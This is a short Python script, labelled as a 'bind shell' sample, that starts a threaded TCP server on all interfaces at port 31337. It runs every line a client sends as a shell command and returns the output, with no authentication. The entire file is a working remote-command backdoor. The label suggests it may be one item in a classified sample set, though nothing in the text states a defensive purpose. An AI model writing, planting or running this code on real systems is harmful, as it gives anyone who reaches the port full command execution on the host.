# class: bind shell; style: socketserver
import socketserver
import subprocess


class Handler(socketserver.StreamRequestHandler):
    def handle(self):
        while True:
            self.wfile.write(b"> ")
            cmd = self.rfile.readline().decode().strip()
            if not cmd:
                break
            self.wfile.write(subprocess.getoutput(cmd).encode() + b"\n")


with socketserver.ThreadingTCPServer(("0.0.0.0", 31337), Handler) as srv:
    srv.serve_forever()
